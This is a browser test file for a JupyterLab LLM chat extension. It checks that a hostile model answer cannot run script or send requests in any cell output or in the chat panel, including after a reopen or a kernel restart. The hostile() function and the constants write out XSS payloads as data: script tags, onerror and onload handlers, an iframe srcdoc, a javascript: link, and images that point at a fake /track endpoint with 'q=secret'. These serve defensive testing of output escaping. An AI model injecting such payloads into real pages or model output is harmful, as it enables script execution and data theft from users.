"""Model output runs nothing and fetches nothing in JupyterLab (DESIGN §9), as a user meets it.

A hostile answer (scripts, event handlers, an iframe, a ``javascript:`` link, Markdown and raw
images pointing at the fake server) goes through every view: the ``%%chat`` cell, ``%chat_history``,
``%chat_usage`` (the model's name is hostile too), the chat panel (its history and a live answer),
and all of it again after save, close, reopen and a kernel restart (the record restored from the
file). Each payload would set a ``window`` flag or make the browser GET ``/track`` on the fake
server: no flag may be set, no such GET logged, and the text must stay readable, the image's URL
visible. Screenshots go to tests/artifacts/untrusted-*.png.
"""

from __future__ import annotations

from collections.abc import Callable

import pytest

from tests.browser.harness import JupyterServer, NotebookPage, empty_notebook
from tests.browser.test_panel_browser import ask, configure, dock, open_panel, wait_idle, wait_text
from tests.fake_openai import FakeOpenAI, Reply

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

FLAGS = ("script", "img", "svg", "iframe", "link", "model", "thinking")


def hostile(port: int) -> str:
    track = f"http://127.0.0.1:{port}/track"
    return "\n\n".join([
        "Here is the answer.",
        "<script>window.__pwned_script = 1</script>",
        '<img src=x onerror="window.__pwned_img = 1">',
        '<svg onload="window.__pwned_svg = 1"></svg>',
        '<iframe srcdoc="<script>parent.__pwned_iframe = 1</script>"></iframe>',
        "[click me](javascript:window.__pwned_link=1)",
        f"![exfil]({track}?q=secret)",
        f'<img src="{track}?q=raw">',
        f"![ref image][r]\n\n[r]: {track}?q=ref",
        "Code stays code: `<b>kept</b>`",
    ])


HOSTILE_MODEL = '<img src=x onerror="window.__pwned_model = 1">'


def flags_set(nb: NotebookPage) -> list[str]:
    return nb.page.evaluate(
        "(names) => names.filter(n => window['__pwned_' + n] !== undefined)", list(FLAGS)
    )


def tracked(fake: FakeOpenAI) -> list[str]:
    """Paths of every request the browser made to the fake server's /track."""
    return [r.path for r in fake.requests if "/track" in r.path]


def check_safe(nb: NotebookPage, fake: FakeOpenAI, where: str) -> None:
    # Give an image or a handler the time it would take to fire (no assertion on timing).
    nb.page.wait_for_timeout(1500)
    assert flags_set(nb) == [], where
    assert tracked(fake) == [], where
    assert nb.page.locator('a[href^="javascript" i]').count() == 0, where
    assert nb.page.locator("iframe[srcdoc]").count() == 0, where


def check_readable(text: str, port: int, where: str) -> None:
    assert "<script>window.__pwned_script = 1</script>" in text, where
    assert "click me" in text, where
    assert f"http://127.0.0.1:{port}/track?q=secret" in text, where  # the image's URL, as text
    assert "exfil" in text, where


def test_hostile_answer_runs_and_fetches_nothing_anywhere(
    jupyter_server: JupyterServer,
    open_notebook: Callable[..., NotebookPage],
    fake_server: FakeOpenAI,
) -> None:
    path = "untrusted.ipynb"
    jupyter_server.put_notebook(path, empty_notebook())
    nb = open_notebook(path)
    port = fake_server.port
    answer = hostile(port)
    fake_server.default_reply = Reply(text=answer, model=HOSTILE_MODEL,
                                      reasoning="<img src=x onerror=\"window.__pwned_thinking = 1\">")
    configure(nb, fake_server)

    # A cell: the fresh output is trusted by JupyterLab, so only the kernel's escaping protects it.
    cell = nb.run_cell("%%chat\nAnswer with what the document says.")
    check_readable(nb.output(cell), port, "cell")
    check_safe(nb, fake_server, "cell")

    history = nb.run_cell("%chat_history")
    check_readable(nb.output(history), port, "%chat_history")
    usage = nb.run_cell("%chat_usage --turns")
    assert HOSTILE_MODEL in nb.output(usage)  # the model's name shows, as text
    check_safe(nb, fake_server, "reports")
    nb.screenshot("untrusted-cells.png")

    # The panel: the history it gets, then a live answer streamed into it.
    open_panel(nb)
    wait_text(nb.page, "click me")
    ask(nb.page, "And again?")
    wait_idle(nb.page)
    nb.page.wait_for_function(  # the live answer rendered too (rendering is asynchronous)
        "(url) => document.querySelector('.jp-llmchat-dock').innerText.split(url).length > 2",
        arg=f"http://127.0.0.1:{port}/track?q=secret",
    )
    panel_text = dock(nb.page).inner_text()
    assert panel_text.count(f"http://127.0.0.1:{port}/track?q=secret") >= 2, panel_text
    assert panel_text.count("<script>window.__pwned_script = 1</script>") >= 2, panel_text
    check_safe(nb, fake_server, "panel")
    nb.screenshot("untrusted-panel.png")

    # Saved, closed, reopened: outputs come back from the file; after a restart the record too.
    nb.save()
    nb.close()
    nb.reopen()
    check_readable(nb.output(cell), port, "reopened cell")
    check_safe(nb, fake_server, "reopened")
    nb.restart_kernel()
    configure(nb, fake_server)
    restored = nb.run_cell("%chat_history")
    check_readable(nb.output(restored), port, "restored %chat_history")
    open_panel(nb)
    wait_text(nb.page, "click me")
    check_safe(nb, fake_server, "restored panel")
    nb.screenshot("untrusted-restored.png")
